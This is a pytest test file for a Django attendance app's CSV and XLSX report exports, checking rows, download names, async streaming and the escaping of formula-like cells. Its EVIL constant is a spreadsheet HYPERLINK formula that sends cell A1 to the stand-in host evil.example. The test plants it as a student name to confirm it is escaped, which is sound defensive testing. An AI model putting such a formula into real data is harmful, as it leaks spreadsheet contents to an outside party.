"""CSV and XLSX exports: the same rows in both, opened with csv and openpyxl, formula-like text escaped."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import User
from django.http.response import HttpResponseBase
from django.test import AsyncRequestFactory, Client
from django.utils import timezone
from openpyxl import load_workbook

from attendance.exports import safe_cell
from attendance.models import AttendanceRecord, ClassSession, Course, Enrollment
from attendance.report_views import course_report
from students.models import Student

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
ESCAPED = "'" + EVIL


@pytest.fixture(autouse=True)
def fast_passwords(settings: Any) -> None:
    """The people fixtures hash a password each; the default hasher takes half a second a user."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def at(day: str, hour: int, minute: int = 0) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime.fromisoformat(day).replace(hour=hour, minute=minute))


@pytest.fixture
def two_weeks(course: Course, student: Student) -> dict[str, Any]:
    """Ada Lovelace and a student whose name is a formula, over two closed sessions of CS101."""
    mallory = Student.objects.create(student_number="S666", first_name=EVIL)
    Enrollment.objects.create(course=course, student=mallory, start_date="2020-01-01")
    first, second = (
        ClassSession.objects.create(
            course=course, starts_at=at(day, 9), ends_at=at(day, 10), state=ClassSession.State.CLOSED
        )
        for day in ("2025-03-03", "2025-03-10")
    )
    for session, who, status, source, seen in [
        (first, student, "present", "face", at("2025-03-03", 9, 2)),
        (second, student, "late", "face", at("2025-03-10", 9, 15)),
        (first, mallory, "absent", "system", None),
        (second, mallory, "excused", "manual", None),
    ]:
        AttendanceRecord.objects.create(session=session, student=who, status=status, source=source, first_seen_at=seen)
    return {"course": course, "first": first, "ada": student, "mallory": mallory}


TALLY_COLUMNS = ["Present", "Late", "Absent", "Excused", "Sessions counted", "Rate (%)", "Below 75%"]
SESSION_ROWS = [
    ["Student number", "Name", "Status", "First seen", "Source"],
    ["S666", ESCAPED, "Absent", "", "Session closed"],
    ["S001", "Ada Lovelace", "Present", "2025-03-03 09:02:00", "Face recognition"],
]
COURSE_ROWS = [
    ["Student number", "Name", "2025-03-03 09:00", "2025-03-10 09:00", *TALLY_COLUMNS],
    ["S666", ESCAPED, "Absent", "Excused", "0", "0", "1", "1", "2", "0.0", "yes"],  # 0 / (2 - 1)
    ["S001", "Ada Lovelace", "Present", "Late", "1", "1", "0", "0", "2", "100.0"],
    ["", "Present", "1", "0"],
    ["", "Late", "0", "1"],
    ["", "Absent", "1", "0"],
    ["", "Excused", "0", "1"],
    ["", "Sessions counted", "2", "2"],
    ["", "Rate (%)", "50.0", "100.0"],
]
STUDENT_ROWS = [
    ["Course", "Course name", "Session", "Status", "First seen", "Source"],
    ["CS101", "Computing", "2025-03-03 09:00", "Present", "2025-03-03 09:02:00", "Face recognition"],
    ["CS101", "Computing", "2025-03-10 09:00", "Late", "2025-03-10 09:15:00", "Face recognition"],
    [],
    ["Course", "Course name", *TALLY_COLUMNS],
    ["CS101", "Computing", "1", "1", "0", "0", "2", "100.0"],
]


def expected(rows: list[list[str]]) -> list[list[str | float]]:
    return [trimmed(row) for row in rows]


def trimmed(row: list[str]) -> list[str | float]:
    """The row without trailing empty cells, numbers as numbers: a spreadsheet keeps 0.0 as 0."""
    while row and row[-1] == "":
        row = row[:-1]
    return [_number(cell) for cell in row]


def _number(cell: str) -> str | float:
    try:
        return float(cell)
    except ValueError:
        return cell


def body(response: HttpResponseBase) -> bytes:
    assert response.streaming
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def csv_rows(content: bytes) -> list[list[str | float]]:
    return [trimmed(row) for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))]


def xlsx_rows(content: bytes) -> list[list[str | float]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    return [
        trimmed(["" if value is None else str(value) for value in row]) for row in sheet.iter_rows(values_only=True)
    ]


def download(client: Client, url: str, export_format: str) -> list[list[str | float]]:
    response = client.get(url + ("&" if "?" in url else "?") + f"format={export_format}")
    assert response.status_code == 200
    content = body(response)
    if export_format == "csv":
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        return csv_rows(content)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert int(response["Content-Length"]) == len(content)
    return xlsx_rows(content)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exports_hold_the_reports_rows(
    client: Client, teacher: User, two_weeks: dict[str, Any], export_format: str
) -> None:
    client.force_login(teacher)

    assert download(client, f"/reports/sessions/{two_weeks['first'].pk}/", export_format) == expected(SESSION_ROWS)
    assert download(client, f"/reports/courses/{two_weeks['course'].pk}/", export_format) == expected(COURSE_ROWS)
    assert download(client, f"/reports/students/{two_weeks['ada'].pk}/", export_format) == expected(STUDENT_ROWS)


def test_csv_and_xlsx_have_the_same_content_for_a_date_range(
    client: Client, teacher: User, two_weeks: dict[str, Any]
) -> None:
    client.force_login(teacher)
    url = f"/reports/courses/{two_weeks['course'].pk}/?from=2025-03-05&to=2025-03-31"

    as_csv = download(client, url, "csv")
    assert as_csv == download(client, url, "xlsx")
    assert as_csv[0][:3] == ["Student number", "Name", "2025-03-10 09:00"]
    assert as_csv[1] == ["S666", ESCAPED, "Excused", 0, 0, 0, 1, 1]  # nothing left to count: no rate
    assert len(as_csv) == 1 + 2 + 6


def test_downloads_are_named_after_the_report(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    course = two_weeks["course"]

    response = client.get(f"/reports/courses/{course.pk}/?from=2025-03-01&to=2025-03-31&format=csv")
    assert response["Content-Disposition"] == 'attachment; filename="attendance-CS101-2025-03-01-2025-03-31.csv"'
    response = client.get(f"/reports/sessions/{two_weeks['first'].pk}/?format=xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="attendance-CS101-2025-03-03-0900.xlsx"'
    response = client.get(f"/reports/students/{two_weeks['ada'].pk}/?format=csv")
    assert response["Content-Disposition"] == 'attachment; filename="attendance-S001.csv"'


def test_a_formula_in_a_name_stays_text(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    url = f"/reports/courses/{two_weeks['course'].pk}/"

    as_csv = body(client.get(url, {"format": "csv"})).decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in as_csv
    assert "\n=" not in as_csv and ",=" not in as_csv
    workbook = load_workbook(io.BytesIO(body(client.get(url, {"format": "xlsx"}))))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert [cell.value for cell in cells if "HYPERLINK" in str(cell.value)] == [ESCAPED]
    assert {cell.data_type for cell in cells} <= {"s", "n"}  # no formula ("f") anywhere


def test_the_pages_show_the_name_as_it_is(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    html = client.get(f"/reports/courses/{two_weeks['course'].pk}/").content.decode()

    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click me&quot;)" in html


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\tx", "\rx", EVIL])
def test_safe_cell_escapes_what_a_spreadsheet_would_run(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada Lovelace", "", "x=1", "'quoted", 5, -5, 1.5, None])
def test_safe_cell_leaves_the_rest_alone(value: str | float | None) -> None:
    assert safe_cell(value) == value


async def _collect(response: HttpResponseBase) -> bytes:
    return b"".join([chunk async for chunk in response])  # type: ignore[attr-defined]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_under_asgi_exports_stream_as_async_iterators(
    teacher: User, two_weeks: dict[str, Any], export_format: str
) -> None:
    """Django would read a synchronous iterator into a list first under ASGI, the whole export in memory."""
    course = two_weeks["course"]
    request = AsyncRequestFactory().get(f"/reports/courses/{course.pk}/", {"format": export_format})
    request.user = teacher

    response = course_report(request, course_id=course.pk)
    assert response.is_async  # type: ignore[attr-defined]
    content = async_to_sync(_collect)(response)
    response.close()

    assert (csv_rows if export_format == "csv" else xlsx_rows)(content) == expected(COURSE_ROWS)
